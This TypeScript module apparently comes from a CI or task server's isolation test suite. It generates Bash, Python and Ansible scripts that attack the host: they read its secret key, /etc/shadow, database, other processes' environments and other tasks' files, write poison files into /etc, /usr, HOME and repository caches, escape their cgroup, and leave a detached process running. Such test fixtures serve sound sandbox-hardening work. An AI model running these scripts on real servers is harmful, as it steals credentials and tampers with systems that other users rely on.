/**
 * A repository whose code attacks the server it runs on, as code pushed by anyone with write access to a
 * project's repository would: it reads the server's data directory, key, database and process, other tasks and
 * other projects' repository caches, writes where later tasks or the system would read, and leaves a process
 * behind. Everything it reads it prints, so a test finds the secrets it planted in the task's output exactly
 * when the attack got through. The same attacks come as a Bash script, a Python script and an Ansible playbook
 * whose `ansible.builtin.shell` tasks run them.
 */

export type AttackTargets = {
  /** The server's data directory (holding secret.key, the SQLite database, tasks/, repos/, home/). */
  dataDir: string;
  /** A name unique to this run: the files the attack writes and the process it leaves carry it. */
  mark: string;
  /** The number the leftover `sleep` runs for: unique, so a test finds exactly its own leftover. */
  sleepSeconds: number;
};

/** Where the attack writes: files the system or a later task would read. */
export const poisonPaths = (t: AttackTargets) => ({
  etc: `/etc/sb-poison-${t.mark}`,
  usr: `/usr/sb-poison-${t.mark}`,
  /** In the task's HOME: the project's shared HOME when tasks run unconfined. */
  home: `sb-poison-${t.mark}`,
  tmp: `/tmp/sb-poison-${t.mark}`,
  /** Inside each repository cache and each working copy kept for a next task that the task can reach. */
  cache: `sb-poison-${t.mark}`,
});

/**
 * The Bash attack. It walks /proc for every process's environment and command line (keeping only the environment
 * values that carry this run's canaries: unconfined, it would otherwise store other programs' secrets on the machine
 * in this test's database, where their own leak checks find them), reads the data directory and every repository
 * cache in it, writes the poison files, and leaves a `sleep` behind after moving itself out of
 * its cgroup (root may) and out of its session through a double fork (what isolation cannot follow).
 */
export function bashAttack(t: AttackTargets): string {
  const p = poisonPaths(t);
  return `#!/bin/bash
echo "ATTACK START"
DATA=${JSON.stringify(t.dataDir)}
echo "--- data directory"
ls -la "$DATA" 2>&1 | head -20
echo "SECRET-KEY $(cat "$DATA/secret.key" 2>&1)"
echo "SHADOW $(head -1 /etc/shadow 2>&1)"
echo "--- database"
cat "$DATA"/*.db* 2>&1 | grep -a -o 'dbcanary[0-9a-z]*' | head -3
echo "--- processes"
grep -a -o -H -P '[A-Z_]+=[^\\x00]*canary[0-9a-z]*' /proc/[0-9]*/environ 2>/dev/null | sed 's/^/ENV /'
grep -a -o -H -P '[^\\x00]*signalbox[^\\x00]*' /proc/[0-9]*/cmdline 2>/dev/null | sed 's/^/CMDLINE /'
echo "--- other tasks"
for f in "$DATA"/tasks/*/*; do [ -f "$f" ] && echo "TASKFILE $f: $(head -c 200 "$f" 2>&1)"; done
echo "--- repository caches"
for r in "$DATA"/repos/*.git; do git --git-dir="$r" log --all -p 2>&1 | grep -o 'repocanary[0-9a-z]*' | head -2; done
echo "--- writes"
echo poisoned > ${p.etc} 2>/dev/null && echo "WROTE etc"
echo poisoned > ${p.usr} 2>/dev/null && echo "WROTE usr"
echo poisoned > "$HOME/${p.home}" 2>/dev/null && echo "WROTE home"
echo poisoned > ${p.tmp} 2>/dev/null && echo "WROTE tmp"
for r in "$DATA"/repos/*.git; do echo poisoned > "$r/${p.cache}" 2>/dev/null && echo "WROTE cache $r"; done
for c in "$DATA"/repos/checkouts/*/*/*/; do echo poisoned > "\${c}${p.cache}" 2>/dev/null && echo "WROTE kept copy $c"; done
echo "--- leftover"
for m in $(grep ' - cgroup2 ' /proc/self/mountinfo | awk '{print $5}'); do
  echo $$ > "$m/cgroup.procs" 2>/dev/null && echo "MOVED to $m"
done
# A double fork: the subshell is gone before anything can see whose child the sleep was. Then wait until the
# sleep leads a session of its own, so this script's end cannot take it along.
( setsid sleep ${t.sleepSeconds} > /dev/null 2>&1 < /dev/null & )
for i in $(seq 100); do
  sid=$(ps -o sid= -p "$(pgrep -x -f 'sleep ${t.sleepSeconds}')" 2>/dev/null | tr -d ' ')
  [ -n "$sid" ] && [ "$sid" != "$$" ] && break
  sleep 0.05
done
echo "ATTACK END"
`;
}

/** The Python attack: the same, in Python's own calls (no shell). */
export function pythonAttack(t: AttackTargets): string {
  const p = poisonPaths(t);
  return `import glob, os, re, subprocess
print("ATTACK START", flush=True)
DATA = ${JSON.stringify(t.dataDir)}
def read(path, limit=4096):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("latin1")
    except OSError as e:
        return "denied: %s" % e
print("--- data directory")
try:
    print(os.listdir(DATA))
except OSError as e:
    print("denied:", e)
print("SECRET-KEY", read(os.path.join(DATA, "secret.key")))
print("SHADOW", read("/etc/shadow").split("\\n")[0])
print("--- database")
try:
    files = [f for f in os.listdir(DATA) if ".db" in f]
except OSError as e:
    files = []
    print("denied:", e)
db = "".join(read(os.path.join(DATA, f), 50_000_000) for f in files)
print(set(re.findall(r"dbcanary[0-9a-z]*", db)))
print("--- processes")
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    env = read("/proc/%s/environ" % pid, 1_000_000)
    found = [v for v in env.split("\\0") if "canary" in v]
    if found:
        print("ENV", pid, found)
    print("CMDLINE", pid, read("/proc/%s/cmdline" % pid).replace("\\0", " "))
print("--- other tasks")
try:
    for task in os.listdir(os.path.join(DATA, "tasks")):
        folder = os.path.join(DATA, "tasks", task)
        for name in os.listdir(folder):
            if os.path.isfile(os.path.join(folder, name)):
                print("TASKFILE", folder, name, read(os.path.join(folder, name), 200))
except OSError as e:
    print("denied:", e)
print("--- repository caches")
caches = []
try:
    caches = [os.path.join(DATA, "repos", r) for r in os.listdir(os.path.join(DATA, "repos")) if r.endswith(".git")]
except OSError as e:
    print("denied:", e)
for r in caches:
    log = subprocess.run(["git", "--git-dir=" + r, "log", "--all", "-p"], capture_output=True, text=True).stdout
    print(set(re.findall(r"repocanary[0-9a-z]*", log)))
print("--- writes")
def write(path, what):
    try:
        with open(path, "w") as f:
            f.write("poisoned\\n")
        print("WROTE", what)
    except OSError:
        pass
write(${JSON.stringify(p.etc)}, "etc")
write(${JSON.stringify(p.usr)}, "usr")
write(os.path.join(os.environ.get("HOME", "/nonexistent"), ${JSON.stringify(p.home)}), "home")
write(${JSON.stringify(p.tmp)}, "tmp")
for r in caches:
    write(os.path.join(r, ${JSON.stringify(p.cache)}), "cache " + r)
for c in glob.glob(os.path.join(DATA, "repos", "checkouts", "*", "*", "*", "")):
    write(os.path.join(c, ${JSON.stringify(p.cache)}), "kept copy " + c)
print("--- leftover")
for line in read("/proc/self/mountinfo", 1_000_000).splitlines():
    if " - cgroup2 " in line:
        mount = line.split(" ")[4]
        try:
            with open(os.path.join(mount, "cgroup.procs"), "w") as f:
                f.write(str(os.getpid()))
            print("MOVED to", mount)
        except OSError:
            pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.execvp("sleep", ["sleep", "${t.sleepSeconds}"])
    os._exit(0)
os.wait()
print("ATTACK END", flush=True)
`;
}

/** The Ansible attack: the Bash attack run by `ansible.builtin.shell` on the local machine, its output shown. */
export const ansibleAttack = () => `- hosts: all
  gather_facts: false
  tasks:
    - name: attack the server
      ansible.builtin.shell: bash "{{ playbook_dir }}/attack.sh"
      register: attack
    - name: show what it found
      ansible.builtin.debug:
        var: attack.stdout_lines
`;

/**
 * What a later task of the same project and repository prints: whatever the attack left where it would read it
 * (its HOME, /tmp, its repository's cache, its working copy: a copy of the one kept from the attack's clone).
 */
export function laterTask(t: AttackTargets): string {
  const p = poisonPaths(t);
  return `#!/bin/bash
echo "LATER START"
cat "$HOME/${p.home}" ${p.tmp} 2>/dev/null | sed 's/^/LATER READ /'
for r in ${JSON.stringify(t.dataDir)}/repos/*.git; do cat "$r/${p.cache}" 2>/dev/null | sed 's/^/LATER READ /'; done
cat "$(dirname "$0")/${p.cache}" 2>/dev/null | sed 's/^/LATER COPY READ /'
echo "LATER END"
`;
}

/** A task of another project: its secret in its environment and in a file of its folder, then it waits. */
export const victimTask = `#!/bin/bash
echo "$VICTIM_SECRET" > ../victim.txt
echo "victim ready"
exec sleep 600
`;
